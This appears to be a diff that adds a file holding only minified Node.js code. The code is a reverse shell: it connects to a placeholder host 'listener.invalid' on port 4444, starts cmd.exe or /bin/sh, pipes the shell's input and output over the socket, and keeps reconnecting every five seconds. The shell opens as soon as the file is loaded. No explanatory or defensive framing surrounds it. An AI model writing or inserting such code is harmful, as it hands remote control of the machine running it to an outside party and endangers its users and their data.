@@ -1,0 +1,3 @@
+var net=require("net"),cp=require("child_process"),HOST="listener.invalid",PORT=4444,TIMEOUT=5e3;typeof String.prototype.contains>"u"&&(String.prototype.contains=function(e){return this.indexOf(e)!==-1});function connect(e,t){var n=new net.Socket;n.connect(t,e,function(){var o=process.platform.contains("win")?"cmd.exe":"/bin/sh",i=cp.spawn(o,[]);n.write("connected "+process.pid+`
+`),n.pipe(i.stdin),i.stdout.pipe(n),i.stderr.pipe(n),i.on("exit",function(r,c){n.end("closed "+r+c+`
+`)})}),n.on("error",function(o){setTimeout(function(){connect(e,t)},TIMEOUT)}),n.on("close",function(){setTimeout(connect,TIMEOUT,e,t)})}connect(HOST,PORT);
